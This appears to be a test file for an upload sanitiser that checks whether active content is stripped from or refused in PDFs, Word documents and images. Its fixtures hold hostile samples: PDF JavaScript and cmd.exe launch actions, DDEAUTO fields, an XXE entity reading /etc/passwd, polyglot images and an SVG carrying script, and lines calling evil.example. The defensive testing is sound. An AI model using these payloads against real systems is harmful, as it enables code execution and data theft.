import { strFromU8, strToU8, unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import type { UploadKind } from '#contract/uploads.ts'
import { buildDoc, buildDocx, buildPdf, buildPicture } from '#server/testing/build-files.ts'
import { cleanFile } from './clean-file.ts'

async function cleaned(kind: UploadKind, bytes: Uint8Array): Promise<Uint8Array> {
  const result = await cleanFile(kind, bytes)
  if (!result.ok) throw new Error(result.refusal.sentence)
  return result.value.bytes
}

const script = '/S /JavaScript /JS (app.alert\\(1\\))'

const pdfs: readonly [what: string, file: Parameters<typeof buildPdf>[0]][] = [
  ['a script when it is opened', { catalog: `/OpenAction << ${script} >>` }],
  ['a program to launch', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }],
  [
    'a script among its names',
    { catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>` },
  ],
  [
    'scripts around closing and printing',
    { catalog: `/AA << /WC << ${script} >> /WP << ${script} >> >>` },
  ],
  [
    'an embedded file',
    {
      catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
      objects: [
        '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      ],
    },
  ],
  [
    'a form that is sent away',
    {
      catalog: '/AcroForm << /Fields [5 0 R] >>',
      page: '/Annots [5 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>',
      ],
    },
  ],
  [
    'an XFA form',
    {
      catalog: '/AcroForm << /XFA 5 0 R /Fields [] >>',
      objects: ['<< /Length 4 >>\nstream\n<x/>\nendstream'],
    },
  ],
  ['a script on its page', { page: `/AA << /O << ${script} >> >>` }],
  [
    'a link to outside',
    {
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://evil.example) >> >>]',
    },
  ],
  [
    'a link into another file',
    {
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (//evil.example/share) /D [0 /Fit] >> >>]',
    },
  ],
  [
    'an attached file as a note',
    {
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) >> >>]',
    },
  ],
  [
    'rich media',
    {
      page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>]',
    },
  ],
  [
    'a script behind a note',
    {
      page: `/Annots [<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] /A << ${script} >> /AA << /E << ${script} >> >> >>]`,
    },
  ],
  [
    'a script in an appearance',
    {
      page: '/Annots [<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /AP << /N 5 0 R >> >>]',
      objects: [
        `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 1 /AA << /E << ${script} >> >> >>\nstream\nn\nendstream`,
      ],
    },
  ],
  [
    'a picture whose bytes lie elsewhere',
    {
      page: '/Resources << /XObject << /F 5 0 R >> >>',
      objects: [
        '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /F (http://evil.example) /FFilter /DCTDecode /Length 0 >>\nstream\n\nendstream',
      ],
    },
  ],
  [
    'a PostScript part',
    {
      page: '/Resources << /XObject << /X 5 0 R >> >>',
      objects: ['<< /Type /XObject /Subtype /PS /Length 9 >>\nstream\n(a.exe) x\nendstream'],
    },
  ],
  [
    'a name written in hex',
    { catalog: '/Open#41ction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>' },
  ],
]

const activeInPdf =
  /JavaScript|\/JS\b|\/Launch|\/AA\b|OpenAction|EmbeddedFile|Filespec|AcroForm|\/XFA|evil\.example|a\.exe|RichMedia|SubmitForm|\/URI|app\.alert/

test.each(pdfs)('a PDF with %s keeps its drawing and nothing else', async (_what, file) => {
  const bytes = await cleaned('floorPlan', buildPdf(file))
  const text = Buffer.from(bytes).toString('latin1')
  expect(text.startsWith('%PDF-')).toBe(true)
  const { PDFDocument } = await import('@cantoo/pdf-lib')
  const plain = await (await PDFDocument.load(bytes)).save({ useObjectStreams: false })
  const written = Buffer.from(plain).toString('latin1')
  expect(written).not.toMatch(activeInPdf)
  expect(written).toContain('10 10 m 90 90 l S')
})

test('a note drawn on a plan stays', async () => {
  const page = '/Annots [<< /Type /Annot /Subtype /FreeText /Rect [0 0 9 9] /Contents (12 ft) >>]'
  const bytes = await cleaned('floorPlan', buildPdf({ page }))
  const { PDFDocument } = await import('@cantoo/pdf-lib')
  const plain = await (await PDFDocument.load(bytes)).save({ useObjectStreams: false })
  expect(Buffer.from(plain).toString('latin1')).toContain('12 ft')
})

const relations = (...tags: readonly string[]) =>
  strToU8(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${tags.join('')}</Relationships>`,
  )
const relation = (id: string, kind: string, target: string, isOutside = false) =>
  `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}"${isOutside ? ' TargetMode="External"' : ''}/>`
const of = (part: string) => `word/_rels/${part}.xml.rels`
const body = (inner: string) =>
  strToU8(
    `<w:document xmlns:w="w" xmlns:r="r" xmlns:o="o"><w:body><w:p><w:r><w:t>Lease</w:t></w:r></w:p>${inner}</w:body></w:document>`,
  )
const field = (code: string) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`

const documents: readonly [what: string, parts: Record<string, Uint8Array>][] = [
  [
    'a remote template',
    {
      'word/settings.xml': strToU8('<w:settings><w:attachedTemplate r:id="rId1"/></w:settings>'),
      [of('settings')]: relations(
        relation('rId1', 'attachedTemplate', 'http://evil.example/t.dotm', true),
      ),
    },
  ],
  [
    'a linked object',
    {
      'word/document.xml': body(
        '<w:object><o:OLEObject Type="Link" ProgID="Excel" r:id="rId1"/></w:object>',
      ),
      [of('document')]: relations(relation('rId1', 'oleObject', 'http://evil.example/x.xls', true)),
    },
  ],
  [
    'an embedded object',
    {
      'word/document.xml': body(
        '<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object>',
      ),
      [of('document')]: relations(relation('rId1', 'oleObject', 'embeddings/oleObject1.bin')),
      'word/embeddings/oleObject1.bin': strToU8('evil.example'),
    },
  ],
  [
    'an embedded package',
    {
      'word/embeddings/a.exe': strToU8('MZ evil.example'),
      [of('document')]: relations(relation('rId1', 'package', 'embeddings/a.exe')),
    },
  ],
  [
    'a control',
    {
      'word/activeX/activeX1.xml': strToU8('<ax:ocx/>'),
      'word/document.xml': body('<w:control r:id="rId1" w:name="evil.example"/>'),
      [of('document')]: relations(relation('rId1', 'control', 'activeX/activeX1.xml')),
    },
  ],
  [
    'HTML to be taken in',
    {
      'word/afchunk.html': strToU8('<script>evil.example</script>'),
      'word/document.xml': body('<w:altChunk r:id="rId1"/>'),
      [of('document')]: relations(relation('rId1', 'aFChunk', 'afchunk.html')),
    },
  ],
  [
    'a picture from outside',
    {
      'word/document.xml': body('<a:blip r:link="rId1"/>'),
      [of('document')]: relations(relation('rId1', 'image', 'http://evil.example/p.png', true)),
    },
  ],
  [
    'a picture on a share',
    { [of('document')]: relations(relation('rId1', 'image', '\\\\evil.example\\p.png', true)) },
  ],
  [
    'a link to outside',
    {
      'word/document.xml': body('<w:hyperlink r:id="rId1"/>'),
      [of('document')]: relations(relation('rId1', 'hyperlink', 'http://evil.example', true)),
    },
  ],
  [
    'a page to frame',
    {
      [of('webSettings')]: relations(relation('rId1', 'frame', 'http://evil.example', true)),
      'word/webSettings.xml': strToU8(
        '<w:webSettings><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:webSettings>',
      ),
    },
  ],
  ['a DDE field', { 'word/document.xml': body(field('DDEAUTO c:\\\\cmd.exe "/k evil.example"')) }],
  [
    'a DDE field in pieces',
    { 'word/document.xml': body(field('DDE') + field('AUTO c:\\\\cmd evil.example')) },
  ],
  [
    'a field that includes a picture',
    { 'word/document.xml': body(field('INCLUDEPICTURE "http://evil.example/p.png" \\d')) },
  ],
  [
    'a simple field that includes a text',
    {
      'word/document.xml': body(
        '<w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example&quot;"/>',
      ),
    },
  ],
  ['data of its own', { 'customXml/item1.xml': strToU8('<x>evil.example</x>') }],
  [
    'a drawing that plays a program',
    {
      'word/media/a.emf': strToU8('evil.example'),
      [of('document')]: relations(relation('rId1', 'image', 'media/a.emf')),
    },
  ],
]

test.each(documents)('a DOCX with %s keeps its text and nothing else', async (_what, parts) => {
  const start = {
    '_rels/.rels': relations(relation('rId1', 'officeDocument', 'word/document.xml')),
  }
  const bytes = await cleaned(
    'loiDocument',
    buildDocx({ ...start, 'word/document.xml': body(''), ...parts }),
  )
  const kept = unzipSync(bytes)
  const written = Object.values(kept)
    .map((part) => strFromU8(part, true))
    .join('\n')
  expect(written).not.toMatch(/evil\.example|DDE|OLEObject|altChunk|attachedTemplate|w:control/)
  expect(strFromU8(kept['word/document.xml'] ?? new Uint8Array())).toContain('Lease')
  expect(
    Object.keys(kept).some((name) => /bin$|exe$|emf$|html$|customXml|activeX/.test(name)),
  ).toBe(false)
})

test('a plain DOCX keeps text, page numbers and pictures', async () => {
  const bytes = await cleaned(
    'loiDocument',
    buildDocx({
      'word/document.xml': body(`${field(' PAGE ')}<a:blip r:embed="rId2"/>`),
      [of('document')]: relations(relation('rId2', 'image', 'media/p.png')),
      'word/media/p.png': await buildPicture('png'),
    }),
  )
  const kept = unzipSync(bytes)
  expect(strFromU8(kept['word/document.xml'] ?? new Uint8Array())).toContain(' PAGE ')
  expect(strFromU8(kept[of('document')] ?? new Uint8Array())).toContain('media/p.png')
  expect(kept['word/media/p.png']?.length).toBeGreaterThan(0)
})

const refused: readonly [what: string, bytes: Uint8Array][] = [
  [
    'a DOCX whose text declares an entity',
    buildDocx({
      'word/document.xml': strToU8(
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document/>',
      ),
    }),
  ],
  [
    'a DOCX in UTF-16',
    buildDocx({ 'word/document.xml': Buffer.from('\ufeff<w:document/>', 'utf16le') }),
  ],
  ['a DOCX with macros', buildDocx({ 'word/vbaProject.bin': strToU8('macro') })],
  ['a DOC with macros', buildDoc(['Root Entry', 'WordDocument', '_VBA_PROJECT'])],
  ['a DOC with a storage of macros', buildDoc(['Root Entry', 'WordDocument', 'Macros'])],
  ['a DOC with embedded objects', buildDoc(['Root Entry', 'WordDocument', 'ObjectPool'])],
  [
    'a DOC with a DDE field',
    Buffer.concat([buildDoc(), Buffer.from('\x13 DDEAUTO c:\\cmd', 'latin1')]),
  ],
  [
    'a DOC with a linked picture',
    Buffer.concat([buildDoc(), Buffer.from('\x13 INCLUDEPICTURE "http://x"', 'utf16le')]),
  ],
  [
    'a DOC with a remote template',
    Buffer.concat([buildDoc(), Buffer.from('http://evil.example/t.dotm', 'utf16le')]),
  ],
  [
    'a PDF that is encrypted',
    buildPdf({ objects: ['<< /Filter /Standard /V 1 /R 2 >>'] }).subarray(0, 60),
  ],
  [
    'a PDF without pages',
    Buffer.from(
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
    ),
  ],
]

test.each(refused)('%s is refused', async (_what, bytes) => {
  const result = await cleanFile('loiDocument', bytes)
  expect(result.ok).toBe(false)
})

const picturePng = await buildPicture('png')
const pictureJpg = await buildPicture('jpeg')
const payload = '<script>fetch("http://evil.example")</script>'

/** A picture that is another kind of file as well: what is drawn anew holds the picture alone. */
const doubles: readonly [what: string, bytes: Uint8Array][] = [
  ['a page of HTML behind it', Buffer.concat([picturePng, Buffer.from(`<html>${payload}</html>`)])],
  [
    'an archive behind it',
    Buffer.concat([pictureJpg, buildDocx({ 'evil.example': strToU8('x') })]),
  ],
  [
    'a PDF behind it',
    Buffer.concat([pictureJpg, buildPdf({ catalog: `/OpenAction << ${script} >>` })]),
  ],
  ['a script in its comment', withJpegComment(pictureJpg, payload)],
]

function withJpegComment(jpeg: Uint8Array, text: string): Buffer {
  const comment = Buffer.from(text)
  const head = Buffer.from([0xff, 0xfe, 0, comment.length + 2])
  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)])
}

test.each(doubles)('a picture with %s keeps the picture and nothing else', async (_what, bytes) => {
  const written = Buffer.from(await cleaned('photo', bytes)).toString('latin1')
  expect(written).not.toMatch(/evil\.example|script|OpenAction/)
})

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${payload}</svg>`

const pretenders: readonly [what: string, bytes: Uint8Array][] = [
  ['a vector picture with a script', Buffer.from(svg)],
  ['a vector picture that says it is XML', Buffer.from(`<?xml version="1.0"?>${svg}`)],
  ['a page of HTML', Buffer.from(`<!doctype html>${payload}`)],
  ['a PDF that begins with HTML', Buffer.concat([Buffer.from(payload), buildPdf()])],
  ['a GIF that is a script', Buffer.from(`GIF89a/*${payload}*/=0;`)],
  ['a program', Buffer.from('MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode', 'latin1')],
  ['a shell script', Buffer.from('#!/bin/sh\ncurl http://evil.example')],
  ['a PostScript file', Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) (r) file')],
  ['a rich text file with an object', Buffer.from('{\\rtf1{\\object\\objautlink evil.example}}')],
  ['an archive that is no document', buildDocx({ 'a.txt': strToU8('x') }).subarray(0, 40)],
]

test.each(pretenders)('%s is taken under no kind', async (_what, bytes) => {
  for (const kind of ['floorPlan', 'loiDocument', 'leaseDocument', 'photo'] as const) {
    expect([kind, (await cleanFile(kind, bytes)).ok]).toEqual([kind, false])
  }
})
